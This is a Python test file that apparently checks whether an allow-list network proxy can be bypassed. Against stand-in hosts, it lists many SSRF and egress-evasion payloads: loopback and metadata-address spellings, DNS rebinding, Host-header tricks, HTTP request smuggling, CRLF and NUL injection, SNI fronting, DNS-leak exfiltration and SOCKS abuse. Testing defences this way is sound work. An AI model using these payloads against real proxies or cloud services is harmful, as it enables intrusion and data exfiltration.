"""The way out that the policy allows, bent: names, spellings, headers, smuggling, SOCKS. Where the wall has no proxy, and
in the run without a wall, the same bytes go straight to the host that they name."""

from . import servers
from .probe import any_of, leaks, probe, reaches

TRAPS = ("loopback.example:80", "private.example:80", "metadata.example:80", "mapped.example:80", "loopback6.example:80", "zero.example:80",
         "mixed.example:80", "nat64.example:80", "sixtofour.example:80", "rebind.example:80")
ALLOWED = ("allowed.example:80", "allowed.example:443")
NOT_ALLOWED = reaches()


def net(name, trick, arguments, judge=NOT_ALLOWED, hosts=ALLOWED, **more):
    inside = "\n".join(f"/usr/bin/python3 .wall/net.py {line}" for line in arguments.split(";; "))
    probe(f"proxy/{name}", trick, inside, judge, hosts=hosts, seconds=8, **more)


def elsewhere(address):
    """Something reached an address that the rule, which has only a name, must not lead to."""
    def judge(look):
        for name, data in look.world.received():
            if look.mark.encode() in data and name.startswith(("tcp", "metadata", "loopback")) and address in name:
                return f"{name} received it"
        return None
    return judge


net("denied-get", "a GET of a name that is not allowed", "get http://denied.example/@MARK@ denied.example")
net("denied-connect", "a tunnel to a name that is not allowed", "tunnel denied.example:443;; tunnel denied.example:80")
net("denied-address", "a tunnel to an address", "tunnel $DENIED_IP:443;; get http://$DENIED_IP/@MARK@ $DENIED_IP")
net("allowed-address", "an allowed host by its address, with the port of SSH", "tunnel $ALLOWED_IP:22",
    lambda look: next((f"{name} received it" for name, data in look.world.received() if look.mark.encode() in data and name.endswith(":22")), None))
net("port", "another port of an allowed host", "tunnel allowed.example:22;; tunnel allowed.example:8080;; get http://allowed.example:8080/@MARK@ allowed.example:8080",
    lambda look: next((f"{name} received it" for name, data in look.world.received() if look.mark.encode() in data and name.endswith((":22", ":8080"))), None))
# A name with a dot at its end is not in the hosts file: the run without a wall shows nothing.
for name, spelled in (("dotted", "127.0.0.1"), ("name", "localhost"), ("short", "127.1"), ("hex", "0x7f000001"), ("octal", "0177.0.0.1"), ("decimal", "2130706433"),
                      ("zero", "0"), ("unspecified", "0.0.0.0"), ("name-dot", "localhost."), ("upper", "LOCALHOST"), ("own-name", "scratch-host")):
    net(f"loopback-{name}", f"the host's loopback as {spelled}", f"get http://{spelled}:$LO_PORT/@MARK@ {spelled};; tunnel {spelled}:$LO_PORT",
        bites=() if name == "name-dot" else ("root", "ordinary"))
for name, spelled in (("v6", "[::1]"), ("v6-mapped", "[::ffff:127.0.0.1]"), ("v6-long", "[0:0:0:0:0:0:0:1]"), ("v6-unspecified", "[::]")):
    net(f"loopback-{name}", f"the host's loopback as {spelled}", f"get http://{spelled}:80/@MARK@ {spelled};; tunnel {spelled}:80")
net("metadata", "the metadata service", "get http://$METADATA_IP/latest/@MARK@ $METADATA_IP;; tunnel $METADATA_IP:80")
net("metadata-decimal", "the metadata service as one number", "get http://2852039166/@MARK@ 169.254.169.254;; tunnel 2852039166:80")
for trap, address in (("loopback", "127.0.0.1"), ("private", "10.1.2.3"), ("metadata", "169.254.169.254"), ("mapped", "127.0.0.1"), ("loopback6", "::1"),
                      ("zero", "0.0.0.0"), ("nat64", "64:ff9b"), ("sixtofour", "2002:7f00")):
    judge = elsewhere("127.0.0.1") if trap == "zero" else elsewhere(address)
    net(f"resolves-{trap}", f"an allowed name that means {address}", f"get http://{trap}.example/@MARK@ {trap}.example;; tunnel {trap}.example:80", judge, hosts=TRAPS)
net("resolves-mixed", "an allowed name with a good and a bad address", "get http://mixed.example/@MARK@ mixed.example;; get http://mixed.example/@MARK@ mixed.example",
    elsewhere("127.0.0.1"), hosts=TRAPS)
net("rebinding", "an allowed name that means loopback from the second question on",
    "repeat 4 get http://rebind.example/@MARK@ rebind.example;; repeat 3 tunnel rebind.example:80", elsewhere("127.0.0.1"), hosts=TRAPS)
net("suffix", "an allowed name inside another one", "get http://allowed.example.denied.example/@MARK@ allowed.example.denied.example;; tunnel allowed.example.denied.example:80")
net("prefix", "an allowed name at the end of another one", "get http://notallowed.example/@MARK@ notallowed.example;; tunnel notallowed.example:443")
net("below", "a name below an allowed one", "get http://sub.allowed.example/@MARK@ sub.allowed.example;; tunnel sub.allowed.example:443")
net("user", "an allowed name as the user of another host", "get http://allowed.example@denied.example/@MARK@ allowed.example;; tunnel allowed.example@denied.example:80")
net("user-port", "an allowed name and a password", "get http://allowed.example:80@denied.example/@MARK@ allowed.example")
net("backslash", "a backslash, which some take for a slash", "get 'http://denied.example\\\\\\\\@allowed.example/@MARK@' allowed.example;; get 'http://denied.example\\\\\\\\.allowed.example/@MARK@' allowed.example")
net("fragment", "a fragment that hides a name", "get 'http://denied.example#@allowed.example/@MARK@' allowed.example")
net("null", "a NUL in a name", "tunnel 'denied.example\\0.allowed.example:443';; get 'http://denied.example\\0.allowed.example/@MARK@' allowed.example")
net("null-reverse", "a NUL behind an allowed name", "tunnel 'denied.example\\0allowed.example:443';; tunnel 'denied.example\\0:443:allowed.example:443'")
net("space", "a blank in a name", "get 'http://denied.example allowed.example/@MARK@' denied.example;; tunnel 'denied.example:80 allowed.example:80'")
net("percent", "a percent-encoded name", "get http://denied%2eexample/@MARK@ allowed.example;; get http://%64enied.example/@MARK@ allowed.example")
net("new-line", "a line break in the target", "tunnel 'denied.example:80\\r\\nHost: allowed.example:80\\r\\nX: y';; tunnel 'allowed.example:80 HTTP/1.1\\r\\n\\r\\nCONNECT denied.example:80'")
net("host-header", "an allowed target with the Host of another", "get http://allowed.example/@MARK@ denied.example",
    lambda look: next(("the server behind the allowed name was asked for another host" for name, data in look.world.received()
                       if look.mark.encode() in data and b"denied.example" in data.lower()), None))
net("host-header-tunnel", "a tunnel to an allowed host with the Host of another inside",
    "tunnel allowed.example:80 'GET /@MARK@ HTTP/1.1\\r\\nHost: denied.example\\r\\n\\r\\n'",
    lambda look: next(("the server behind the allowed name was asked for another host" for name, data in look.world.received()
                       if look.mark.encode() in data and b"denied.example" in data.lower()), None))
net("host-header-first", "a target that is not allowed with an allowed Host", "get http://denied.example/@MARK@ allowed.example")
net("host-header-twice", "two Hosts", "get http://allowed.example/@MARK@ allowed.example 'Host: denied.example'",
    lambda look: next(("the server got the Host of another" for name, data in look.world.received()
                       if look.mark.encode() in data and b"host: denied.example" in data.lower()), None))
SECOND = "GET http://denied.example/@MARK@ HTTP/1.1\\r\\nHost: denied.example\\r\\n\\r\\n"
BEHIND = (lambda look: next((f"{name} received a second request" for name, data in look.world.received()
                             if look.mark.encode() in data and b"denied.example" in data.lower()), None))
net("pipeline", "a second request behind an allowed one", f"get http://allowed.example/ allowed.example '\\r\\n{SECOND}'", BEHIND)
net("smuggle-length", "a second request in what the length leaves over", f"get http://allowed.example/ allowed.example 'Content-Length: 0' '\\r\\n{SECOND}'", BEHIND)
net("smuggle-chunked", "a second request behind a chunked body, with a length that says otherwise",
    f"get http://allowed.example/ allowed.example 'Content-Length: 6' 'Transfer-Encoding: chunked' '\\r\\n0\\r\\n\\r\\n{SECOND}'", BEHIND)
net("smuggle-two-lengths", "two lengths", f"get http://allowed.example/ allowed.example 'Content-Length: 0' 'Content-Length: 200' '\\r\\n{SECOND}'", BEHIND)
net("smuggle-folded", "a folded header", f"get http://allowed.example/ allowed.example 'Transfer-Encoding:\\r\\n chunked' '\\r\\n0\\r\\n\\r\\n{SECOND}'", BEHIND)
net("upgrade", "an upgrade that turns the rest into another protocol", f"get http://allowed.example/ allowed.example 'Connection: Upgrade' 'Upgrade: websocket' '\\r\\n{SECOND}'", BEHIND)
net("scheme", "other schemes", "get ftp://denied.example/@MARK@ denied.example;; get gopher://denied.example/@MARK@ denied.example;; get https://denied.example/@MARK@ denied.example")
net("front", "a tunnel to an allowed host with the TLS name of another", "fronted allowed.example:443 denied.example",
    lambda look: next(("the allowed address was greeted with another name" for name, data in look.world.received() if look.mark.encode() in data), None))
net("front-port-80", "the same on the port of HTTP", "fronted allowed.example:80 denied.example",
    lambda look: next(("the allowed address was greeted with another name" for name, data in look.world.received() if look.mark.encode() in data), None))
net("dns-leak", "data in a name that the proxy looks up", "get http://@MARK@.denied.example/ denied.example;; lookup denied.example", reaches("dns"))
net("dns-leak-tunnel", "data in the name of a tunnel", "tunnel $MARK.denied.example:443", reaches("dns"))
net("dns-leak-below", "data in a name below an allowed one", "tunnel $MARK.allowed.example:443", reaches("dns"))
net("socks-name", "SOCKS to a name that is not allowed", "socks 3 denied.example 80")
net("socks-address", "SOCKS to an address", "socks 1 $DENIED_IP 80;; socks 1 127.0.0.1 $LO_PORT")
net("socks-address6", "SOCKS to an IPv6 address", "socks 4 ::1 80;; socks 4 ::ffff:127.0.0.1 80")
net("socks-null", "SOCKS with a NUL in the name", "socks 3 'denied.example\\0.allowed.example' 80;; socks 3 'denied.example\\0allowed.example' 443")
net("socks-text", "SOCKS with an address as a name", "socks 3 127.0.0.1 $LO_PORT;; socks 3 2130706433 $LO_PORT;; socks 3 localhost $LO_PORT")
net("socks-udp", "SOCKS for datagrams", "socks-udp $DENIED_IP $UDP_PORT")
net("socks4", "the older SOCKS", "socks4 $DENIED_IP 80;; socks4 127.0.0.1 $LO_PORT")


# Requests that a lenient reader takes for something else.
TWICE = f"\\r\\n{SECOND}"
for name, trick, fields in (
        ("smuggle-coding-space", "a blank before the colon of the coding", ("Transfer-Encoding : chunked", "Content-Length: 5")),
        ("smuggle-coding-tab", "a tab before the coding", ("Transfer-Encoding:\\tchunked",)),
        ("smuggle-coding-list", "a list of codings", ("Transfer-Encoding: identity, chunked",)),
        ("smuggle-coding-last", "chunked is not the last coding", ("Transfer-Encoding: chunked, identity",)),
        ("smuggle-coding-quoted", "a coding in quotes", ('Transfer-Encoding: "chunked"',)),
        ("smuggle-coding-case", "a coding in other letters, twice", ("TRANSFER-ENCODING: xchunked", "transfer-encoding: chunked")),
        ("smuggle-coding-old", "a coding in HTTP/1.0's manner", ("Connection: keep-alive", "Transfer-Encoding: chunked", "Content-Length: 0")),
        ("smuggle-coding-underscore", "a coding with an underscore", ("Transfer_Encoding: chunked", "Content-Length: 0")),
        ("smuggle-length-plus", "a length with a sign", ("Content-Length: +0",)),
        ("smuggle-length-minus", "a negative length", ("Content-Length: -1",)),
        ("smuggle-length-hex", "a hexadecimal length", ("Content-Length: 0x0",)),
        ("smuggle-length-list", "a list of lengths", ("Content-Length: 0, 0",)),
        ("smuggle-length-blank", "a length in two words", ("Content-Length: 0 0",)),
        ("smuggle-length-large", "a length beyond 64 bits", ("Content-Length: 18446744073709551616",)),
        ("smuggle-length-underscore", "a length with an underscore", ("Content_Length: 0",)),
        ("smuggle-expect", "a request in place of the body that the server is asked to wait for", ("Expect: 100-continue", "Content-Length: 0")),
        ("smuggle-plain-upgrade", "an upgrade to HTTP/2 without TLS", ("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA")),
        ("smuggle-dropped-host", "Host named as a field of this connection alone", ("Connection: close, Host, Content-Length", "Content-Length: 0")),
        ("smuggle-line-feed", "a field behind a bare line feed", ("X: y\\nTransfer-Encoding: chunked",)),
        ("smuggle-return", "a field behind a bare carriage return", ("X: y\\rTransfer-Encoding: chunked",)),
        ("smuggle-null", "a NUL in a field", ("Transfer-Encoding: chunked\\0",)),
        ("smuggle-byte", "a vertical tab in a field", ("Transfer-Encoding: \\x0bchunked",))):
    net(name, trick, "get http://allowed.example/ allowed.example " + " ".join(f"'{one}'" for one in fields) + f" '{TWICE}'", BEHIND)
net("smuggle-chunk-size", "sizes of pieces that two readers count differently",
    ";; ".join(f"get http://allowed.example/ allowed.example 'Transfer-Encoding: chunked' '\\r\\n{size}\\r\\n\\r\\n{SECOND}'" for size in ("0x0", "+0", "-0", "0;a=\\n0", " 0", "00000000000000000000", "0 ")), BEHIND)
DENIED_HOST = (lambda look: next(("the server behind the allowed name was asked for another host" for name, data in look.world.received()
                                  if look.mark.encode() in data and b"denied.example" in data.lower().partition(b"\r\n\r\n")[0]), None))
for name, trick, host in (("list", "two names in one Host", "allowed.example, denied.example"), ("user", "a user in Host", "allowed.example@denied.example"),
                          ("path", "a path in Host", "denied.example/allowed.example"), ("port", "two ports in Host", "denied.example:80:80"), ("blank", "a blank in Host", "denied.example allowed.example"),
                          ("tab", "a tab in Host", "\\tdenied.example")):
    net(f"host-{name}", trick, f"get http://allowed.example/@MARK@ '{host}'", DENIED_HOST)
net("host-absolute", "an absolute target of another host inside a tunnel", "tunnel allowed.example:80 'GET http://denied.example/@MARK@ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n'", DENIED_HOST)
net("host-none", "no Host at all, in HTTP/1.0", "tunnel allowed.example:80 'GET http://denied.example/@MARK@ HTTP/1.0\\r\\n\\r\\n'", DENIED_HOST)
net("host-connect", "a tunnel with the Host of an allowed one", "tunnel 'denied.example:80 HTTP/1.1\\r\\nHost: allowed.example:80\\r\\nX:'")
for name, trick, target in (("port-wraps", "a port that wraps round to another", "allowed.example:65558"), ("port-sign", "a port with a sign", "allowed.example:+22"),
                            ("port-zero", "a port with zeros", "allowed.example:00022"), ("port-twice", "two ports", "allowed.example:443:22"), ("port-hex", "a hexadecimal port", "allowed.example:0x16")):
    net(name, trick, f"tunnel {target}", lambda look: next((f"{name} received it" for name, data in look.world.received() if look.mark.encode() in data and name.endswith(":22")), None), bites=())
for name, trick, target in (("scheme-upper", "a scheme in capitals", "HTTP://denied.example/@MARK@"), ("scheme-none", "a target that begins with the host", "//denied.example/@MARK@"),
                            ("scheme-one-slash", "one slash", "http:/denied.example/@MARK@"), ("scheme-blank", "a blank before the scheme", " http://denied.example/@MARK@"),
                            ("wide-letters", "letters of another width", "http://\\xef\\xbd\\x84enied.example/@MARK@"), ("wide-dot", "a dot of another width", "http://denied\\xe3\\x80\\x82example/@MARK@"),
                            ("mapped", "a mapped address", "http://[::ffff:$DENIED_IP]/@MARK@"), ("zone", "an address with a zone", "http://[::1%25lo]:80/@MARK@"),
                            ("brackets", "a name in brackets", "http://[denied.example]/@MARK@"), ("semicolon", "a semicolon", "http://denied.example;.allowed.example/@MARK@"),
                            ("question", "a question mark", "http://denied.example?.allowed.example/@MARK@"), ("star", "the pattern itself", "http://*/@MARK@")):
    net(f"target-{name}", trick, f'get "{target}" allowed.example', bites=() if name in ("scheme-upper", "scheme-none", "scheme-one-slash", "scheme-blank", "wide-letters", "wide-dot", "star", "zone", "semicolon") else ("root", "ordinary"))
net("second-version", "HTTP/2 without TLS", "tunnel allowed.example:80 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n@MARK@ denied.example\\n\\n'", BEHIND)
net("old-version", "HTTP of before versions", "tunnel allowed.example:80 'GET http://denied.example/@MARK@\\r\\n\\r\\n'", BEHIND)
net("method", "a method that servers answer with what they were sent", "tunnel allowed.example:80 'trace http://denied.example/@MARK@ HTTP/1.1\\r\\nHost: denied.example\\r\\n\\r\\n'", BEHIND)
net("empty-lines", "empty lines before a request in a tunnel", "tunnel allowed.example:80 '\\r\\n\\r\\n  GET http://denied.example/@MARK@ HTTP/1.1\\r\\nHost: denied.example\\r\\n\\r\\n'", BEHIND)
net("not-http", "words that are not HTTP, then a request", "tunnel allowed.example:80 'HELO x\\r\\nGET http://denied.example/@MARK@ HTTP/1.1\\r\\nHost: denied.example\\r\\n\\r\\n'", BEHIND)
